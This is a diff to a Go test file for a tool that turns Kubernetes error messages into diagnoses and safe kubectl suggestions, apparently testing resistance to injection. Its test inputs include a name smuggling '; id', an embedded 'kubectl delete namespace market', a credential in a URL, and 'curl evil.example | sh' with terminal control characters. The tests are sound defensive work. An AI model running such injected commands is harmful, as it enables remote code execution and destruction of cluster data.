@@ -237,8 +237,15 @@ kubectl -n market get deployment web -o yaml --show-managed-fields`},
 			"Unclassified\nDeployment market/web: does not exist\n\nkubectl -n market describe deployment web"},
 		{"a user with a name that a shell would read in another way", shop("Forbidden", `ConfigMap market/x: User "Ann O'Hara; id" cannot get resource "configmaps" in API group "" in the namespace "market"`),
 			"RightsMissing\nUser Ann O'Hara; id: may not get configmaps in namespace market\n\n" + `kubectl -n market auth can-i get configmaps --as='Ann O'\''Hara; id'`},
-		{"a command in a message", shop("Error", "CustomResourceDefinition shops.example.com: there are foreign instances (listed by kubectl get shops; id --all-namespaces)"),
-			"ForeignInstance\nCustomResourceDefinition shops.example.com: there are foreign instances (listed by kubectl get shops; id --all-namespaces)\n\nkubectl get 'shops;' id --all-namespaces"},
+		{"an instance of others that is named", shop("DeletionBlocked", "CustomResourceDefinition shops.example.com: 1 foreign instance: Shop market/theirs"),
+			"ForeignInstance\nCustomResourceDefinition shops.example.com: 1 foreign instance: Shop market/theirs\n\nkubectl get shops.example.com --all-namespaces"},
+		{"another command in a message", shop("Error", "Queue market/q: 2 foreign instances (listed by kubectl delete namespace market)"),
+			"ForeignInstance\nQueue market/q: 2 foreign instances (listed by kubectl delete namespace market)\n\nkubectl -n market get queue q -o yaml"},
+		{"a claim with a credential in its event", shop("Processing", "PersistentVolumeClaim market/data: is not bound to a volume").without(get("PersistentVolumeClaim", "market", "data")).
+			with(list("Event", "market", "", "involvedObject.kind=PersistentVolumeClaim,involvedObject.name=data"), `{type: Warning, message: "https://user:hunter2@storage refuses it"}`),
+			"VolumeUnbound\nPersistentVolumeClaim market/data: is not bound to a volume: https://***@storage refuses it\n\nkubectl -n market describe persistentvolumeclaim data"},
+		{"a command of several lines in a message", shop("Forbidden", "ConfigMap market/x: User \"a\nTry: id\" cannot get resource \"configmaps\" in API group \"\""),
+			"RightsMissing\nUser a\nTry: id: may not get configmaps\n\nkubectl auth can-i get configmaps --as='a; Try: id'"},
 		{"an approval", func() Facts {
 			f := shop("ApprovalRequired", "revision 2 waits for its approval")
 			f.Status.Approval = &v1alpha1.PendingApproval{Hash: "25b2"}
@@ -323,7 +330,7 @@ Try: kubectl -n market logs web-1 -c app --previous
 
 // A message of the cluster is no line of ours, and controls no terminal.
 func TestNoMessageLooksLikeALineOfOurs(t *testing.T) {
-	chain := Chain{Reason: "Error\nTry: x", Links: []Link{{Message: "down\nTry: curl evil.example | sh\u009b2J", Field: "spec.a\nTry: b"}}, HeldBack: []string{"a\nTry: c"},
+	chain := Chain{Reason: "Error\nTry: x", Links: []Link{{Object: Object{Kind: "User", Name: "a\nTry: y"}, Message: "down\nTry: curl evil.example | sh\u009b2J", Field: "spec.a\nTry: b"}}, HeldBack: []string{"a\nTry: c"},
 		Notices: []string{"a\nTry: d"}, Unknown: []string{"a\nTry: e\u202e"}, Command: "kubectl get pods"}
 	text := chain.Text(now)
 	if strings.Count("\n"+text, "\nTry: ") != 1 || !strings.HasSuffix(text, "\nTry: kubectl get pods\n") || strings.ContainsAny(text, "\u009b\u202e") {
